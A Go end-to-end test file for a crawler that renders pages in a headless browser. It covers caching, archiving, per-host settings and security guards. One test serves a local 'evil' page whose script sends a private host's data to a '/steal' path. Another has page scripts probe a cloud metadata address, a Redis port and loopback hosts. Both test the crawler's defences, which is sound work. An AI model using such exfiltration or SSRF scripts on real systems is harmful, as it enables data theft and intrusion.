package e2e

import (
	"bytes"
	"encoding/json"
	"fmt"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"skink/crawler/render"
	"skink/dedup"
)

// needBrowser skips a test on a machine without a browser, and if SKINK_LONG is not set, because these tests take half of
// the time of this package. Two tests may have browsers at the same time, because more
// would miss the time limits of pages on a small machine. It waits for the others.
func needBrowser(t *testing.T) {
	t.Helper()
	if _, err := render.Find(); err != nil {
		t.Skip(err)
	}
	if os.Getenv("SKINK_LONG") == "" {
		t.Skip("a test with a browser: SKINK_LONG=short runs it")
	}
	name, _, sub := strings.Cut(t.Name(), "/")
	if _, again := browsing.LoadOrStore(name, true); sub || again {
		return
	}
	browsers <- struct{}{}
	t.Cleanup(func() { <-browsers; browsing.Delete(name) })
}

var (
	browsing sync.Map // names of tests that have waited
	browsers = make(chan struct{}, 2)
)

// A webApp serves one of the applications in testdata/apps, and counts requests by path.
type webApp struct {
	*httptest.Server
	edition atomic.Int32 // from edition 1 on, the data of the application react are others
	mu      sync.Mutex
	asked   map[string]int // guarded by mu
}

func newWebApp(t *testing.T, name string) *webApp {
	t.Helper()
	dir := filepath.Join("testdata/apps", name)
	a := &webApp{asked: map[string]int{}}
	a.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		a.mu.Lock()
		a.asked[r.URL.Path]++
		a.mu.Unlock()
		file := filepath.Join(dir, filepath.FromSlash(r.URL.Path))
		if edition := a.edition.Load(); edition > 0 && r.URL.Path == "/api/all.json" {
			data, err := os.ReadFile(file)
			if err != nil {
				t.Error(err)
			}
			data = bytes.Replace(data, []byte("is no snake"), fmt.Appendf(nil, "was seen %d times", edition), 1)
			w.Header().Set("ETag", fmt.Sprintf("%q", dedup.HashOf(data)))
			http.ServeContent(w, r, file, time.Time{}, bytes.NewReader(data))
			return
		}
		if info, err := os.Stat(file); err == nil && !info.IsDir() {
			http.ServeFile(w, r, file)
			return
		}
		if _, err := os.Stat(file + ".html"); err == nil {
			http.ServeFile(w, r, file+".html")
			return
		}
		if filepath.Ext(file) != "" {
			http.NotFound(w, r)
			return
		}
		page, err := os.ReadFile(filepath.Join(dir, "index.html"))
		if err != nil {
			http.Error(w, err.Error(), http.StatusInternalServerError)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = w.Write(page)
	}))
	t.Cleanup(a.Close)
	return a
}

// times returns the number of requests for a path.
func (a *webApp) times(path string) int {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.asked[path]
}

// A fed is a document in a feed.
type fed struct {
	URL, Title, Text string
	Words            int
	Rendered         bool
}

// TestRender crawls three applications that were built with npm tools, without and with a browser.
// Two of them send empty pages that scripts fill. The third sends complete pages, which must not be
// rendered.
func TestRender(t *testing.T) {
	t.Parallel()
	needBrowser(t)
	react, vue, manual := newWebApp(t, "react"), newWebApp(t, "vue"), newWebApp(t, "vitepress")
	dir := t.TempDir()
	crawl := func(mode string) (said string, pages map[string]fed) {
		cmd := exec.Command("skink", "crawl", "--store", mode, "--render", mode, "--delay", "0", react.URL, vue.URL, manual.URL)
		cmd.Dir = dir
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		pages = map[string]fed{}
		for line := range bytes.Lines(runIn(t, dir, "export", "--store", mode)) {
			var d fed
			if err := json.Unmarshal(line, &d); err != nil {
				t.Fatal(err)
			}
			pages[d.URL] = d
		}
		return string(out), pages
	}

	said, pages := crawl("off")
	if !strings.Contains(said, "\n2 pages need scripts; --render auto fetches them with a browser\n") || len(pages) != 6 {
		t.Errorf("without a browser there are %d pages:\n%s", len(pages), said)
	}

	said, pages = crawl("auto")
	if !strings.Contains(said, "\n12 pages rendered with a browser\n") || strings.Contains(said, "need scripts") || len(pages) != 16 {
		t.Errorf("with a browser there are %d pages:\n%s", len(pages), said)
	}
	for _, want := range []struct {
		url, title, text string
		rendered         bool
	}{
		{react.URL + "/", "Lizards of the world", "House gecko: walks on ceilings", true},
		{react.URL + "/about", "About these pages", "a crawler that runs none finds one page", true},
		{react.URL + "/lizards/sand-skink", "Sand skink", "leaves a track like a wave behind", true},
		{react.URL + "/lizards/slow-worm", "Slow worm", "sleep there until March", true},
		{vue.URL + "/", "Hot drinks", "from the field to the cup", true},
		{vue.URL + "/mate", "Mate", "says thanks only to end", true},
		{manual.URL + "/", "Kite manual | Kites", "on a day with a steady wind", false},
		{manual.URL + "/sail", "The sail | Kites", "it should sound like a drum", false},
	} {
		got := pages[want.url]
		if got.Title != want.title || !strings.Contains(got.Text, want.text) || got.Rendered != want.rendered {
			t.Errorf("%s is %+v, want %+v", want.url, got, want)
		}
	}
	// The scripts of an application must be fetched once, and not for each page. Scripts of pages that
	// need no rendering must not be fetched at all, and neither must files that do not affect the
	// text.
	for path, n := range react.asked {
		if strings.HasPrefix(path, "/assets/") && (n != 1 || !strings.HasSuffix(path, ".js")) {
			t.Errorf("%s was asked for %d times", path, n)
		}
	}
	for path, n := range manual.asked {
		if strings.HasPrefix(path, "/assets/") {
			t.Errorf("%s was asked for %d times", path, n)
		}
	}
	if n := react.times("/lizards/gecko"); n != 1 {
		t.Errorf("a page was asked for %d times", n)
	}
}

// TestRenderSecrets renders a page that loads a script and data of a private host, after a page of
// that host has loaded them. The page of the other site gets what a stranger gets.
func TestRenderSecrets(t *testing.T) {
	t.Parallel()
	needBrowser(t)
	const secret, stranger = "the harvest of the secret garden", "nothing to see for strangers"
	loaded := make(chan struct{})
	var once sync.Once
	var mu sync.Mutex
	var asked []string // URLs of requests to the other site
	priv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		text := stranger
		if _, password, _ := r.BasicAuth(); r.Header.Get("X-Token") == "sesame-1" && password == "sesame-2" {
			text = secret
		}
		w.Header().Set("Access-Control-Allow-Origin", "*")
		switch r.URL.Path {
		case "/":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, drawsSecrets("", ""))
		case "/data.js":
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprintf(w, "window.data = %q", text)
		case "/api":
			fmt.Fprint(w, text)
		case "/done":
			once.Do(func() { close(loaded) })
		default:
			http.NotFound(w, r)
		}
	}))
	defer priv.Close()
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		asked = append(asked, r.URL.String())
		mu.Unlock()
		if r.URL.Path != "/" {
			http.NotFound(w, r)
			return
		}
		select {
		case <-loaded:
		case <-r.Context().Done():
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, drawsSecrets(priv.URL, "/steal"))
	}))
	defer evil.Close()
	dir := t.TempDir()
	config := fmt.Sprintf("render = \"always\"\ndelay = \"0s\"\n[host.%q]\nuser = \"me\"\npassword = \"sesame-2\"\nheaders = { X-Token = \"sesame-1\" }\n", strings.TrimPrefix(priv.URL, "http://"))
	if err := os.WriteFile(filepath.Join(dir, "skink.toml"), []byte(config), 0o600); err != nil {
		t.Fatal(err)
	}
	runIn(t, dir, "crawl", "--config", "skink.toml", priv.URL, evil.URL)
	texts := map[string]string{}
	for line := range bytes.Lines(runIn(t, dir, "export", "--include", "all", "--with-private")) {
		var d fed
		if err := json.Unmarshal(line, &d); err != nil {
			t.Fatal(err)
		}
		texts[d.URL] = d.Text
	}
	if n := strings.Count(texts[priv.URL+"/"], secret); n != 2 {
		t.Errorf("the private page has its text %d times, want 2: %q", n, texts[priv.URL+"/"])
	}
	if text := texts[evil.URL+"/"]; strings.Contains(text, secret) || strings.Count(text, stranger) != 2 {
		t.Errorf("the page of the other site says %q", text)
	}
	all := fmt.Sprint(asked)
	if strings.Contains(all, "harvest") || strings.Contains(all, "sesame") || !strings.Contains(all, "strangers") {
		t.Errorf("the other site was asked for %s", all)
	}
}

// drawsSecrets returns a page whose script shows the data of a host twice, and sends it to a URL.
func drawsSecrets(host, to string) string {
	return fmt.Sprintf(`<title>Data</title><main><p id=a></p><p id=b></p></main><script src="%[1]s/data.js"></script><script>
fetch("%[1]s/api").then(r => r.text()).then(text => {
	a.textContent = "First it says: " + window.data + ", and no more of it is known to anybody.";
	b.textContent = "Then it says: " + text + ", and that is all there is to say about it.";
	return fetch("%[2]s/done?" + encodeURIComponent(window.data + text));
})</script>`, host, to)
}

// TestRenderByHost sets --render for single hosts in the configuration file: one host is rendered
// although the crawl renders none, and the other is not although the crawl renders pages.
func TestRenderByHost(t *testing.T) {
	t.Parallel()
	needBrowser(t)
	react, vue := newWebApp(t, "react"), newWebApp(t, "vue")
	for mode, want := range map[string]map[string]int{"off": {react.URL: 7, vue.URL: 1}, "auto": {react.URL: 1, vue.URL: 5}} {
		of := map[string]string{"off": "auto", "auto": "off"}[mode]
		dir := t.TempDir()
		config := fmt.Sprintf("render = %q\ndelay = \"0s\"\n[host.%q]\nrender = %q\n", mode, strings.TrimPrefix(react.URL, "http://"), of)
		if err := os.WriteFile(filepath.Join(dir, "skink.toml"), []byte(config), 0o600); err != nil {
			t.Fatal(err)
		}
		runIn(t, dir, "crawl", "--config", "skink.toml", react.URL, vue.URL)
		got := map[string]int{}
		for line := range bytes.Lines(runIn(t, dir, "export", "--include", "all")) {
			var d fed
			if err := json.Unmarshal(line, &d); err != nil {
				t.Fatal(err)
			}
			for _, app := range []*webApp{react, vue} {
				if strings.HasPrefix(d.URL, app.URL) {
					got[app.URL]++
				}
			}
		}
		if !maps.Equal(got, want) {
			t.Errorf("with --render %s, and %s for one host, the hosts have %v pages, want %v", mode, of, got, want)
		}
	}
}

// TestRenderLater crawls a site without a browser and then with one. The server answers the second
// request with 304 if it may, but pages that need scripts are requested whole, and rendered.
func TestRenderLater(t *testing.T) {
	t.Parallel()
	needBrowser(t)
	var mu sync.Mutex
	answers := map[string][]int{}
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		status := http.StatusOK
		w.Header().Set("ETag", `"1"`)
		if r.Header.Get("If-None-Match") != "" {
			status = http.StatusNotModified
		}
		mu.Lock()
		answers[r.URL.Path] = append(answers[r.URL.Path], status)
		mu.Unlock()
		switch {
		case r.URL.Path == "/robots.txt":
			http.NotFound(w, r)
			return
		case r.URL.Path == "/app.js":
			w.Header().Set("Content-Type", "text/javascript")
		}
		w.WriteHeader(status)
		switch {
		case status == http.StatusNotModified:
		case r.URL.Path == "/":
			fmt.Fprint(w, `<title>Shell</title><div id=app></div><script src=/app.js></script>`)
		case r.URL.Path == "/app.js":
			fmt.Fprint(w, `document.getElementById('app').innerHTML = '<p>This text comes from a script.</p><a href=/plain>plain</a>'`)
		default:
			fmt.Fprint(w, `<title>Plain</title><p>This text is in the page, and no script is needed to see it.`)
		}
	}))
	defer site.Close()
	dir := t.TempDir()
	for _, mode := range []string{"off", "auto", "auto"} {
		runIn(t, dir, "crawl", "--render", mode, "--delay", "0", "--sitemaps", "off", "--learn", "off", "--recrawl", "0s", site.URL)
	}
	text := string(runIn(t, dir, "export", "--include", "all"))
	for _, want := range []string{"This text comes from a script.", "This text is in the page"} {
		if !strings.Contains(text, want) {
			t.Errorf("the export lacks %q:\n%s", want, text)
		}
	}
	mu.Lock()
	defer mu.Unlock()
	for path, want := range map[string][]int{"/": {200, 200, 200}, "/plain": {200, 304}} {
		if !slices.Equal(answers[path], want) {
			t.Errorf("%s was answered with %v, want %v", path, answers[path], want)
		}
	}
}

// TestRenderedArchive crawls a page that needs scripts, and visits it again without a browser, after
// the response and its script have changed. The page keeps its text, and is reported. A later visit
// with a browser finds the new text. After each visit, a crawl from the archive has the same pages.
func TestRenderedArchive(t *testing.T) {
	t.Parallel()
	needBrowser(t)
	var version atomic.Int32
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		switch r.URL.Path {
		case "/":
			fmt.Fprintf(w, `<title>Shell %d</title><div id=app></div><script src=/app.js></script>`, version.Load())
		case "/app.js":
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprintf(w, `document.getElementById('app').innerHTML = '<p>This text comes from script %[1]d.</p><a href=/plain>plain</a>'; document.title = 'App %[1]d'`, version.Load())
		case "/plain":
			fmt.Fprint(w, `<title>Plain</title><noscript><meta http-equiv=refresh content="0;url=/old"></noscript><p>This text is in the page, and no script is needed to see it.`)
		default:
			http.NotFound(w, r)
		}
	}))
	defer site.Close()
	dir := t.TempDir()
	for n, step := range []struct {
		mode, text string
		unrendered bool
		compared   string
	}{{"auto", "script 0.", false, "Shell 0,App 0"}, {"off", "script 0.", true, "Shell 0,App 0"}, {"auto", "script 2.", false, "Shell 2,App 2"}} {
		version.Store(int32(n))
		runIn(t, dir, "crawl", "--store", "site", "--render", step.mode, "--warc", "archive", "--delay", "0", "--sitemaps", "off", "--recrawl", "0s", site.URL)
		again := fmt.Sprint("again", n)
		runIn(t, dir, "crawl", "--store", again, "--from", "archive")
		want := runIn(t, dir, "export", "--store", "site", "--include", "all")
		if got := runIn(t, dir, "export", "--include", "all", "--store", again); !bytes.Equal(got, want) {
			t.Errorf("step %d: the archive gives\n%s\nwant\n%s", n, got, want)
		}
		if !bytes.Contains(want, []byte(step.text)) {
			t.Errorf("step %d: the export lacks %q:\n%s", n, step.text, want)
		}
		for _, name := range []string{"site", again} {
			about := runIn(t, dir, "report", "--store", name, "--about", "unrendered")
			if compared := runIn(t, dir, "report", "--store", name, "--about", "rendered", "--format", "csv"); !bytes.Contains(compared, []byte(step.compared)) {
				t.Errorf("step %d: the report of %s lacks %q:\n%s", n, name, step.compared, compared)
			}
			if said := bytes.Contains(about, []byte("without a browser")); said != step.unrendered {
				t.Errorf("step %d: the report of %s says\n%s", n, name, about)
			}
		}
	}
}

// TestUnrendered crawls a page that the browser cannot render, with --render always. The summary, the
// report and the audit count the page and give the reason. A later crawl fetches the page whole and
// renders it. If that fails again, the page keeps its text, although the response has none.
func TestUnrendered(t *testing.T) {
	t.Parallel()
	needBrowser(t)
	var mode atomic.Value
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" && r.URL.Path != "/app" {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("ETag", `"1"`)
		if r.Header.Get("If-None-Match") != "" {
			w.WriteHeader(http.StatusNotModified)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		if r.URL.Path == "/" {
			fmt.Fprint(w, `<title>Home</title><p>Home of two pages. <a href=/app>the application</a>`)
			return
		}
		fmt.Fprint(w, `<title>App</title><main id=app></main><script>const app = document.getElementById('app')
app.innerHTML = '<p>This text comes from a script, and from nowhere else.</p>'
if ('`+mode.Load().(string)+`' === 'large') app.append('x '.repeat(100_000))</script>`)
	}))
	defer site.Close()
	dir := t.TempDir()
	for n, step := range []struct {
		mode, failed, text string
	}{
		{"large", "1", ""},
		{"ok", "", "This text comes from a script, and from nowhere else."},
		{"large", "1", "This text comes from a script, and from nowhere else."},
		{"large", "1", "This text comes from a script, and from nowhere else."},
		{"ok", "", "This text comes from a script, and from nowhere else."},
	} {
		mode.Store(step.mode)
		cmd := exec.Command("skink", "crawl", "--render", "always", "--max-size", "64KB", "--delay", "0", "--sitemaps", "off", "--recrawl", "0s", "--gone-after", "1", site.URL)
		cmd.Dir = dir
		said, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("%v\n%s", err, said)
		}
		summary := strings.Contains(string(said), "\n1 page could not be rendered; see the reasons with: skink report --about unrendered\n")
		if summary != (step.failed != "") || strings.Contains(string(said), "--render auto") {
			t.Errorf("step %d: the crawl says\n%s", n, said)
		}
		var totals struct {
			Unrendered json.Number
			Need       json.Number `json:"need_scripts"`
		}
		out := runIn(t, dir, "report", "--format", "json")
		if err := json.Unmarshal(out, &totals); err != nil || totals.Unrendered.String() != step.failed || totals.Need != "" {
			t.Errorf("step %d: %v: %s", n, err, out)
		}
		audit := string(runIn(t, dir, "report", "--about", "unrendered"))
		if lists := strings.Contains(audit, "the rendered page is too large"); lists != (step.failed != "") {
			t.Errorf("step %d: the audit says\n%s", n, audit)
		}
		if text := string(runIn(t, dir, "export", "--include", "all")); strings.Contains(text, "nowhere else") != (step.text != "") {
			t.Errorf("step %d: the export is\n%s\n%s\n%s", n, text, said, runIn(t, dir, "status", "--urls", "failed"))
		}
	}
}

// TestRenderGuards crawls a page whose scripts request forbidden URLs: URLs that robots.txt
// disallows, and addresses that are not allowed. The archive must contain the allowed responses.
func TestRenderGuards(t *testing.T) {
	t.Parallel()
	needBrowser(t)
	trap, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Skip(err)
	}
	defer trap.Close()
	var touched atomic.Int64
	go func() {
		for {
			conn, err := trap.Accept()
			if err != nil {
				return
			}
			touched.Add(1)
			conn.Close()
		}
	}()
	var mu sync.Mutex
	asked := map[string]int{}
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		asked[r.URL.Path]++
		mu.Unlock()
		switch r.URL.Path {
		case "/robots.txt":
			fmt.Fprint(w, "User-agent: *\nDisallow: /secret")
		case "/":
			fmt.Fprint(w, `<title>Shell</title><div id=app></div><script src=/app.js></script><script src=/secret/app.js></script>`)
		case "/app.js":
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprintf(w, `const show = text => document.getElementById('app').insertAdjacentHTML('beforeend', '<p>' + text);
				show('drawn <a href=/linked>linked</a>');
				for (const url of ['/data', '/secret/data', '/large', '/moved', 'http://%[1]s/a', 'http://localhost:6379/', 'http://169.254.169.254/latest', 'http://[::1]:%[2]d/'])
					fetch(url).then(r => r.text()).then(show, () => {});
				new WebSocket('ws://%[1]s/b');
				new Image().src = 'http://%[1]s/c';`, trap.Addr(), trap.Addr().(*net.TCPAddr).Port)
		case "/data":
			fmt.Fprint(w, "with data")
		case "/moved":
			http.Redirect(w, r, "http://"+trap.Addr().String()+"/d", http.StatusFound)
		case "/large":
			_, _ = w.Write(bytes.Repeat([]byte("x"), 1<<20))
		default:
			fmt.Fprint(w, "<p>linked page, with a text of its own")
		}
	}))
	defer site.Close()
	dir := t.TempDir()
	runIn(t, dir, "crawl", "--quiet", "--render", "auto", "--delay", "0", "--sitemaps", "off", "--learn", "off", "--max-size", "512KB", "--warc", "kept", site.URL)
	page := ""
	for line := range bytes.Lines(runIn(t, dir, "export")) {
		var d fed
		if err := json.Unmarshal(line, &d); err != nil {
			t.Fatal(err)
		}
		if d.Rendered {
			page += d.Text
		}
	}
	if page != "drawn linked\nwith data" {
		t.Errorf("the rendered page is %q", page)
	}
	if n := touched.Load(); n > 0 {
		t.Errorf("the other address was reached %d times", n)
	}
	mu.Lock()
	defer mu.Unlock()
	for path, want := range map[string]int{"/": 1, "/app.js": 1, "/data": 1, "/large": 1, "/moved": 1, "/linked": 1, "/secret/app.js": 0, "/secret/data": 0, "/favicon.ico": 0} {
		if asked[path] != want {
			t.Errorf("%s was asked for %d times, want %d", path, asked[path], want)
		}
	}
	indexes, err := filepath.Glob(filepath.Join(dir, "kept", "*.cdxj"))
	if err != nil || len(indexes) != 1 {
		t.Fatalf("the archive has the indexes %q: %v", indexes, err)
	}
	index, err := os.ReadFile(indexes[0])
	if err != nil {
		t.Fatal(err)
	}
	for _, path := range []string{"/app.js", "/data", "/moved"} {
		if !bytes.Contains(index, []byte(site.URL+path)) {
			t.Errorf("the archive lacks %s", path)
		}
	}
}

// If no browser is installed, the message must name the package to install.
func TestRenderWithoutBrowser(t *testing.T) {
	t.Parallel()
	skink, err := exec.LookPath("skink")
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(skink, "crawl", "--render", "auto", "http://127.0.0.1:1/")
	cmd.Dir, cmd.Env = t.TempDir(), []string{"PATH=/nowhere"}
	out, err := cmd.CombinedOutput()
	if err == nil || !strings.Contains(string(out), "skink: render pages: neither Chromium nor Chrome is installed; install one, for example with apt install chromium-headless-shell\n") {
		t.Errorf("%v\n%s", err, out)
	}
	if _, err := os.Stat(filepath.Join(cmd.Dir, "skink-data")); !os.IsNotExist(err) {
		t.Errorf("a store was left: %v", err)
	}
}
